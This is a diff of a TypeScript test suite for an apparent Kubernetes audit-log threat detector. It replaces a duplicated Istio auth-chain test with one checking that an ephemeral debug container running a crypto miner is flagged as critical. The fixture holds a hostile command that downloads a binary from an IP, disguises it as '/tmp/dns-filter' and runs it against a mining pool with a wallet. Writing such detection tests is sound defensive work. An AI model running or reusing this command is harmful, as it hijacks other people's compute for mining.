@@ -66,34 +66,22 @@ describe('audit evasions (issue 12 review)', () => {
       auditEvent({ verb: 'patch', resource: 'authorizationpolicies', ...istio, name: 'istio-ingressgateway-oauth2-proxy', at: at(8), auditID: 'patch-labels', requestObject: { metadata: { labels: { a: 'b' } } } }),
     ]);
     const auth = result.findings.filter((f) => f.ruleId === 'audit-auth-chain-removed');
-    const by = (id: string) => auth.find((f) => f.origin?.auditID === id);
-    for (const id of ['delcoll-authz', 'delcoll-ra', 'put-authz', 'patch-authz', 'patch-ra', 'delete-ra', 'delete-named']) assert.equal(by(id)?.severity, 'high', `${id}: ${JSON.stringify(auth.map((f) => [f.origin?.auditID, f.severity]))}`);
+    const by = (id: string) => auth.find((f) => (f.origin as { auditID?: string } | undefined)?.auditID === id);
+    for (const id of ['delcoll-authz', 'delcoll-ra', 'put-authz', 'patch-authz', 'patch-ra', 'delete-ra', 'delete-named']) assert.equal(by(id)?.severity, 'high', `${id}: ${JSON.stringify(auth.map((f) => [(f.origin as { auditID?: string } | undefined)?.auditID, f.severity]))}`);
     assert.equal(by('delete-other')?.severity, 'medium');
     assert.equal(by('patch-labels'), undefined);
     assert.match(by('put-authz')?.evidence.join('\n') ?? '', /judged from the request body/);
     assert.equal(auth.length, 8);
   });
-  test('auth chain: deletecollection, and changes and deletes with no earlier state, are judged from the body', async () => {
-    const istio = { apiGroup: 'security.istio.io', namespace: 'istio-system' };
+  test('kubectl debug: an ephemeral container that runs a miner is judged', async () => {
     const result = await hunt([
-      auditEvent({ verb: 'deletecollection', resource: 'authorizationpolicies', ...istio, at: at(1), auditID: 'delcoll-authz' }),
-      auditEvent({ verb: 'deletecollection', resource: 'requestauthentications', ...istio, at: at(1, 5), auditID: 'delcoll-ra' }),
-      auditEvent({ verb: 'update', resource: 'authorizationpolicies', ...istio, name: 'istio-ingressgateway-oauth2-proxy', at: at(2), auditID: 'put-authz', requestObject: { apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'istio-ingressgateway-oauth2-proxy', namespace: 'istio-system' }, spec: { action: 'ALLOW', rules: [{}] } } }),
-      auditEvent({ verb: 'patch', resource: 'authorizationpolicies', ...istio, name: 'istio-ingressgateway-oauth2-proxy2', at: at(3), auditID: 'patch-authz', requestObject: [{ op: 'replace', path: '/spec/action', value: 'AUDIT' }] }),
-      auditEvent({ verb: 'patch', resource: 'requestauthentications', ...istio, name: 'm2m-token-issuer', at: at(4), auditID: 'patch-ra', requestObject: { spec: { jwtRules: [] } } }),
-      auditEvent({ verb: 'delete', resource: 'requestauthentications', ...istio, name: 'dex-jwt', at: at(5), auditID: 'delete-ra' }),
-      auditEvent({ verb: 'delete', resource: 'authorizationpolicies', apiGroup: 'security.istio.io', namespace: 'kubeflow', name: 'oauth2-proxy-check', at: at(6), auditID: 'delete-named' }),
-      // Neither named nor in the gateway's namespace: unknown, medium.
-      auditEvent({ verb: 'delete', resource: 'authorizationpolicies', apiGroup: 'security.istio.io', namespace: NS, name: 'ns-owner-access', at: at(7), auditID: 'delete-other' }),
-      // A patch that leaves the action alone on an unknown policy says nothing.
-      auditEvent({ verb: 'patch', resource: 'authorizationpolicies', ...istio, name: 'istio-ingressgateway-oauth2-proxy', at: at(8), auditID: 'patch-labels', requestObject: { metadata: { labels: { a: 'b' } } } }),
+      auditEvent({
+        verb: 'patch', resource: 'pods', subresource: 'ephemeralcontainers', namespace: NS, name: 'my-notebook-0', at: at(1),
+        requestObject: { spec: { ephemeralContainers: [{ name: 'debugger-x', image: 'tensorflow/tensorflow:latest', targetContainerName: 'nb', command: ['sh', '-c', `curl -s http://45.9.148.21/d -o /tmp/dns-filter; chmod +x /tmp/dns-filter; /tmp/dns-filter -o 45.9.148.21:3333 -u ${WALLET}`] }] } },
+      }),
     ]);
-    const auth = result.findings.filter((f) => f.ruleId === 'audit-auth-chain-removed');
-    const by = (id: string) => auth.find((f) => f.origin?.auditID === id);
-    for (const id of ['delcoll-authz', 'delcoll-ra', 'put-authz', 'patch-authz', 'patch-ra', 'delete-ra', 'delete-named']) assert.equal(by(id)?.severity, 'high', `${id}: ${JSON.stringify(auth.map((f) => [f.origin?.auditID, f.severity]))}`);
-    assert.equal(by('delete-other')?.severity, 'medium');
-    assert.equal(by('patch-labels'), undefined);
-    assert.match(by('put-authz')?.evidence.join('\n') ?? '', /judged from the request body/);
-    assert.equal(auth.length, 8);
+    const miner = result.findings.find((f) => f.ruleId === 'crypto-miner-workload');
+    assert.equal(miner?.severity, 'critical', JSON.stringify(ids(result)));
+    assert.match(miner?.evidence.join('\n') ?? '', /judged from the patch body alone/);
   });
 });
